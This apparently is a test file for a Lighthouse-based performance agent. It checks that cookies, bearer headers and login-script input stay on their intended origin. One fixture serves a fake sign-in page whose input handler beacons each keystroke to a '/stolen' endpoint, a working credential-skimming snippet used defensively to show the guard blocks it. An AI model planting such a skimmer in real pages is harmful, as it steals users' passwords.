import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromeFlags, createLighthouseRunner, startGuardProxy, type GuardProxy } from '@perfwatch/agent';
import { createTargetGuard, parseAllowList } from '@perfwatch/common';
import { DEMO_LOGIN, startDemoSite, type DemoSite } from '@perfwatch/local';
import { silentLogger } from '../support/test-services.ts';

// Pages behind a login, measured by the agent's Lighthouse runner with real Chromium: without
// credentials Lighthouse lands on the login page; with the session cookie, a bearer header or a
// login script it measures the page itself. The page's picture comes from another origin
// (localhost), which must never see the credentials.

const seen: Array<{ host: string; path: string; authorization: string | undefined; cookie: string | undefined }> = [];
let site: DemoSite;
let proxy: GuardProxy;
let runner: ReturnType<typeof createLighthouseRunner>;
let account: string;
/** A site whose login page redirects to another origin (localhost), which keeps what is typed into it. */
let hostile: Server;
let hostilePort: number;
const stolen: string[] = [];

beforeAll(async () => {
  site = await startDemoSite({
    onRequest: ({ host, path, headers }) =>
      seen.push({
        host,
        path,
        authorization: headers['authorization'] as string | undefined,
        cookie: headers['cookie'] as string | undefined,
      }),
  });
  account = `${site.url}account/`;
  hostile = createServer((req, res) => {
    const url = new URL(req.url ?? '/', `http://${req.headers.host}`);
    if (url.pathname === '/login' && url.hostname === '127.0.0.1')
      return void res.writeHead(302, { Location: `http://localhost:${hostilePort}/login` }).end();
    if (url.pathname === '/login')
      // A copy of a sign-in form that sends whatever is typed into it home, key by key (a beacon
      // goes even when the page is left at once).
      return void res
        .writeHead(200, { 'Content-Type': 'text/html' })
        .end(
          `<!doctype html><title>Sign in</title><input id="password" oninput="navigator.sendBeacon('/stolen?v=' + encodeURIComponent(this.value))">`,
        );
    if (url.pathname === '/stolen') stolen.push(url.searchParams.get('v') ?? '');
    res.writeHead(200, { 'Content-Type': 'text/html' }).end('<!doctype html><title>Account</title><h1>Account</h1>');
  });
  await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
  hostilePort = (hostile.address() as AddressInfo).port;
  const guard = createTargetGuard({ allow: parseAllowList('127.0.0.0/8,::1/128') });
  proxy = await startGuardProxy({ guard, logger: silentLogger });
  runner = createLighthouseRunner({
    chromePath: process.env['CHROME_PATH'] ?? '/usr/bin/chromium',
    chromeFlags: chromeFlags({ noSandbox: process.getuid?.() === 0 }),
    logger: silentLogger,
    runsPerBrowser: 10,
    guard: { guard, proxy },
  });
});

afterAll(async () => {
  await runner?.close();
  await proxy?.close();
  await site?.close();
  await new Promise((resolve) => hostile?.close(resolve));
});

const run = (auth?: Parameters<typeof runner.run>[0]['auth']) =>
  runner.run({ url: account, device: 'desktop', timeoutMs: 120_000, ...(auth ? { auth } : {}) });
const port = () => new URL(site.url).port;

describe('authenticated runs', () => {
  it('without credentials measures the login page it is sent to', async () => {
    const { lhr } = await run();
    expect(lhr.finalDisplayedUrl).toBe(`${site.url}login.html`);
  }, 180_000);

  it('with the session cookie measures the page itself, and the cookie stays with its site', async () => {
    seen.length = 0;
    const { lhr } = await run({ cookies: [DEMO_LOGIN.cookie] });
    expect(lhr.finalDisplayedUrl).toBe(account);
    expect(seen.some((r) => r.path === '/account/' && r.cookie?.includes(`${DEMO_LOGIN.cookie.name}=`))).toBe(true);
    // The picture from localhost was fetched, without the cookie.
    const elsewhere = seen.filter((r) => r.host === `localhost:${port()}`);
    expect(elsewhere.map((r) => r.path)).toContain('/assets/pixel.svg');
    expect(elsewhere.every((r) => !r.cookie?.includes(DEMO_LOGIN.cookie.value))).toBe(true);
    // A Chrome that held credentials is not used again.
    expect(runner.chrome).toBeNull();
  }, 180_000);

  it('with a bearer header measures the page itself; the header goes to its origin only', async () => {
    seen.length = 0;
    const { lhr } = await run({ headers: { Authorization: `Bearer ${DEMO_LOGIN.bearer}` } });
    expect(lhr.finalDisplayedUrl).toBe(account);
    const own = seen.filter((r) => r.host === `127.0.0.1:${port()}`);
    const elsewhere = seen.filter((r) => r.host === `localhost:${port()}`);
    // The page's load: its document and subresources from its origin, each with the header.
    // (Lighthouse's own side fetches afterwards — robots.txt, llms.txt, the document again for
    // its SEO checks — come from outside the tab and go without it.)
    expect(own[0]).toMatchObject({ path: '/account/', authorization: `Bearer ${DEMO_LOGIN.bearer}` });
    expect(own.find((r) => r.path === '/assets/site.css')!.authorization).toBe(`Bearer ${DEMO_LOGIN.bearer}`);
    expect(elsewhere.length).toBeGreaterThan(0);
    expect(elsewhere.map((r) => r.authorization)).toEqual(elsewhere.map(() => undefined));
  }, 180_000);

  it('with a login script signs in in the same browser, then measures the page', async () => {
    const { lhr } = await run({
      login: [
        { action: 'goto', url: `${site.url}login.html` },
        { action: 'fill', selector: '#user', value: DEMO_LOGIN.user },
        { action: 'fill', selector: '#password', value: DEMO_LOGIN.password },
        { action: 'click', selector: '#sign-in' },
        { action: 'waitFor', selector: 'h1' },
      ],
    });
    expect(lhr.finalDisplayedUrl).toBe(account);
  }, 180_000);

  it('types nothing into a page a redirect took to another origin, and fails the run saying so', async () => {
    stolen.length = 0;
    const error = await runner
      .run({
        url: `http://127.0.0.1:${hostilePort}/account/`,
        device: 'desktop',
        timeoutMs: 120_000,
        auth: {
          login: [
            { action: 'goto', url: `http://127.0.0.1:${hostilePort}/login` },
            { action: 'fill', selector: '#password', value: 'p4ssw0rd-secret' },
          ],
        },
      })
      .catch((e: unknown) => e as Error);
    expect(error).toMatchObject({ name: 'RunFailure', code: 'LOGIN_ORIGIN_MISMATCH', retryable: false });
    expect((error as Error).message).toBe(
      `login step 2 (fill #password) refused: the page is at http://localhost:${hostilePort}, not http://127.0.0.1:${hostilePort}, the origin it is meant for (give the step its origin if the sign-in is there)`,
    );
    expect(stolen).toEqual([]);
  }, 180_000);

  it('types into a page of another origin when the step names that origin', async () => {
    stolen.length = 0;
    const { lhr } = await runner.run({
      url: `http://127.0.0.1:${hostilePort}/account/`,
      device: 'desktop',
      timeoutMs: 120_000,
      auth: {
        login: [
          { action: 'goto', url: `http://127.0.0.1:${hostilePort}/login` },
          {
            action: 'fill',
            selector: '#password',
            value: 'sso-password',
            origin: `http://localhost:${hostilePort}`,
          },
        ],
      },
    });
    expect(lhr.finalDisplayedUrl).toBe(`http://127.0.0.1:${hostilePort}/account/`);
    // The page named was typed into (and, being this test's, kept it): the check let it through.
    expect(stolen).toContain('sso-password');
  }, 180_000);

  it('names the login step that failed, never the values it was given', async () => {
    const error = await run({
      login: [
        { action: 'goto', url: `${site.url}login.html` },
        { action: 'fill', selector: '#no-such-field', value: 'p4ssw0rd-secret' },
      ],
    }).catch((e: unknown) => e as Error);
    expect(error).toMatchObject({ code: 'PAGE_LOAD_FAILED' });
    expect((error as Error).message).toMatch(/login step 2 \(fill #no-such-field\) timed out/);
    expect((error as Error).message).not.toContain('p4ssw0rd-secret');
  }, 180_000);
});
